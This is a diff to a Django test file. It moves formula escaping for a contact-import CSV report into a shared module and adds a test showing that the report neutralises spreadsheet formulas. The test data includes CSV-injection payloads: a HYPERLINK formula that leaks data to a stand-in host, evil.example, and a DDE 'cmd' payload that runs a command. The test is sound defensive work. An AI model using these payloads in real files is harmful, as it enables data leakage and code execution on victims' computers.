@@ -7,8 +7,9 @@ import io
 import pytest
 from django.utils import timezone
 
+from cities.csvsafe import safe_cell
 from relationships import services
-from relationships.contacts_csv import escape_cell, read_contacts
+from relationships.contacts_csv import read_contacts
 from relationships.models import ImportStatus, Stakeholder, StakeholderImport
 
 
@@ -202,7 +203,7 @@ def test_csv_import_previews_then_confirms_and_loses_nothing(client_as, city, ci
     # The report of skipped lines holds every line not added, with its reason and original values.
     report = client.get(city_page("import_report", batch.pk))
     assert report["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(_body(report))))
     assert rows[0][:3] == ["line", "verdict", "reason"]
     assert sorted(int(r[0]) for r in rows[1:]) == [4, 5, 6, 7, 8, 9]
     assert any("not-an-email" in r for r in rows)
@@ -242,11 +243,48 @@ def test_unterminated_quote_is_a_bad_line_not_a_silent_merge():
     assert rows[-1].verdict == "bad"
 
 
+def _body(response) -> str:
+    """The text of a CSV download, streamed or not, without its byte order mark."""
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return content.decode("utf-8-sig")
+
+
 def test_report_cells_cannot_run_as_formulas():
-    assert escape_cell("=1+1") == "'=1+1"
-    assert escape_cell("\tx") == "'\tx"
-    assert escape_cell("@SUM(A1)") == "'@SUM(A1)"
-    assert escape_cell("Ada") == "Ada"
+    # The skipped lines are written through cities/csvsafe.py, like every other export.
+    assert safe_cell("=1+1") == "'=1+1"
+    assert safe_cell("\tx") == "'\tx"
+    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("Ada") == "Ada"
+
+
+FORMULAS = [
+    ' =HYPERLINK("http://evil.example/?leak","Open")',  # a formula behind leading whitespace
+    "\uff1d1+1",  # a full-width equals sign
+    " @SUM(1)",
+    "\t=1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.django_db
+def test_skipped_lines_report_neutralises_formulas_hidden_behind_spaces_or_full_width_signs(
+    client_as, city, city_page
+):
+    client = client_as(city, "lead")
+    rows = [["Name", "Email", "Note"]] + [[f, "not-an-email", f] for f in FORMULAS]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+    batch = services.stakeholder_import_preview(
+        city=city, filename="contacts.csv", raw=buffer.getvalue().encode(), by=client.user
+    )
+    report = client.get(city_page("import_report", batch.pk))
+    assert report.status_code == 200 and report["Content-Type"].startswith("text/csv")
+    lines = list(csv.reader(io.StringIO(_body(report))))
+    assert lines[0] == ["line", "verdict", "reason", "Name", "Email", "Note"]
+    cells = {cell for line in lines[1:] for cell in line[3:]}
+    for formula in FORMULAS:
+        assert "'" + formula in cells, formula
+        assert formula not in cells, formula
 
 
 @pytest.mark.django_db
